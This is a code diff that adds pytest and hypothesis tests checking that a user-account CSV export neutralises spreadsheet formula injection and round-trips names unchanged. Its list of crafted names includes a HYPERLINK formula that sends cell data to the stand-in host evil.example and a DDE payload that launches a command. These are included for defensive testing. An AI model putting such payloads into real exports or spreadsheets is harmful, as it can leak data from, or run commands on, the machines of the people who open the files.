@@ -6,6 +6,8 @@ import os
 import stat
 
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
 from accounts.audit.models import SecurityEvent
 from accounts.models import User
@@ -133,3 +135,67 @@ def test_export_users_csv_quotes_a_carriage_return_so_the_row_stays_one_row(tmp_
     assert [row["first_name"] for row in rows] == ["Ada\rLovelace"]
     out, _ = run("import_users", str(target))
     assert "0 created, 0 updated, 1 unchanged" in out
+
+
+# --- CSV export: a name is never a spreadsheet formula -----------------------------------------
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+CRAFTED_NAMES = [
+    '=HYPERLINK("http://evil.example/?"&A2,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=1+1",
+    "''@x",
+    "'t Hooft",
+    "O'Brien",
+    "plain",
+    "",
+]
+
+
+def test_export_users_csv_never_starts_a_cell_with_a_formula(tmp_path, api_client):
+    for number, name in enumerate(CRAFTED_NAMES):
+        response = api_client.post(
+            "/api/v1/auth/register/",
+            {
+                "email": f"sheet{number}@example.com",
+                "password": PASSWORD,
+                "first_name": name,
+                "last_name": name,
+            },
+            format="json",
+        )
+        assert response.status_code == 201, response.content
+    target = tmp_path / "users.csv"
+    run("export_users", "--output", str(target))
+
+    with target.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.reader(handle))[1:]
+
+    assert len(rows) == len(CRAFTED_NAMES)
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(FORMULA_STARTS), cell
+
+
+@settings(
+    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(
+    first=st.sampled_from(CRAFTED_NAMES) | st.text(alphabet="=+-@'\t\r ab", max_size=8),
+    last=st.sampled_from(CRAFTED_NAMES),
+)
+def test_export_then_import_of_formula_like_names_changes_nothing(tmp_path_factory, first, last):
+    User.objects.all().delete()
+    User.objects.create_user(email="round@example.com", first_name=first, last_name=last)
+    target = tmp_path_factory.mktemp("export") / "users.csv"
+    run("export_users", "--output", str(target))
+
+    out, _ = run("import_users", str(target))
+
+    assert "0 created, 0 updated, 1 unchanged" in out
+    stored = User.objects.get()
+    assert (stored.first_name, stored.last_name) == (first, last)
